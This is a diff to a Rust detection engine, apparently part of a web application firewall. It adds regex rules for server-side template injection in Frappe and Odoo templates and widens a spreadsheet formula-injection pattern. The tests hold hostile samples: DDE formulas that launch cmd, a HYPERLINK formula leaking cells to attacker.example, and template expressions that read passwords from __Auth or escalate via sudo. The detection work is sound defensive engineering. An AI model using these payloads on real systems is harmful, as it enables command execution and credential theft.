@@ -364,6 +364,13 @@ impl Rce {
                 RCE_SSTI,
                 r"\{\{(?:\s*|[^}]{0,120}[^.a-z0-9_])(?:config|self|request|lipsum|cycler|joiner|namespace|url_for|get_flashed_messages|range\.constructor)\b[^}]{0,120}\}\}",
             ),
+            // A template expression that runs SQL (`{{ frappe.db.sql("select … from __Auth")
+            // }}`), and Odoo's environment lifted to the superuser
+            // (`object.env['res.users'].sudo()`) in a mail or QWeb template.
+            (
+                RCE_SSTI,
+                r#"\{\{[^}]{0,120}\.\s*(?:sql|sql_list|sql_ddl|execute)\s*\(\s*['"]|\benv\s*\[\s*['"][a-z_.]+['"]\s*\]\s*\.\s*sudo\s*\("#,
+            ),
             // Statements that reach outside the template (Tornado's `import`, Django's `load`
             // and `debug`); `for`, `extends`, `set` and the like are every template's own
             // syntax, counted from paranoia 2 (their dangerous forms have dunders).
@@ -409,7 +416,7 @@ impl Rce {
             // URL built from other cells (`=HYPERLINK("http://x/?"&A1, ...)`).
             (
                 RCE_FORMULA,
-                r#"(?:^|[\n,;\t\x22])\s*[=+@-]\s*[a-z0-9_.]+\s*\|\s*'[^']*'\s*!|(?:^|[\n,;\t\x22])\s*[=+@-]\s*(?:hyperlink|importxml|importdata|importhtml|importfeed|image|webservice)\s*\(\s*['\x22]https?://[^'\x22]*['\x22]\s*&"#,
+                r#"(?:^|[\n,;\t\x22])\s*[=+@-][^\n,\x22|]{0,40}?\b[a-z0-9_.]+\s*\|\s*'[^']*'\s*!|(?:^|[\n,;\t\x22])\s*[=+@-]\s*(?:hyperlink|importxml|importdata|importhtml|importfeed|image|webservice)\s*\(\s*['\x22]https?://[^'\x22]*['\x22]\s*&"#,
             ),
             (
                 RCE_SSTI,
@@ -2134,9 +2141,29 @@ mod tests {
                 "json:/description",
                 "=HYPERLINK(\"http://attacker.example/?leak=\"&A1&B1,\"View\")",
             ),
+            ("file-content:file", "a,\"+thisrow:=cmd|'/c notepad'!A1\""),
+            ("file-content:file", "a,\"-2+3+cmd|' /C calc'!A0\""),
         ] {
             assert!(hits(Kind::Value, label, v, 1).contains(&RCE_FORMULA), "{v}");
         }
+        for template in [
+            "Dear {{ doc.customer_name }}, {{ frappe.db.sql(\"select name, password from __Auth\") }}",
+            "<t t-out=\"object.env['res.users'].sudo().search([])\"/>",
+        ] {
+            assert!(
+                hits(Kind::Value, "json:/body", template, 1).contains(&RCE_SSTI),
+                "{template}"
+            );
+        }
+        assert!(
+            !hits(
+                Kind::Value,
+                "json:/body",
+                "Dear {{ doc.customer_name }}, see {{ doc.items }}",
+                1
+            )
+            .contains(&RCE_SSTI)
+        );
         let link = "=HYPERLINK(\"https://docs.example.com/pricing#tiers\",\"Pricing rules\")";
         assert!(!hits(Kind::Value, "json:/formula", link, 1).contains(&RCE_FORMULA));
         rule(
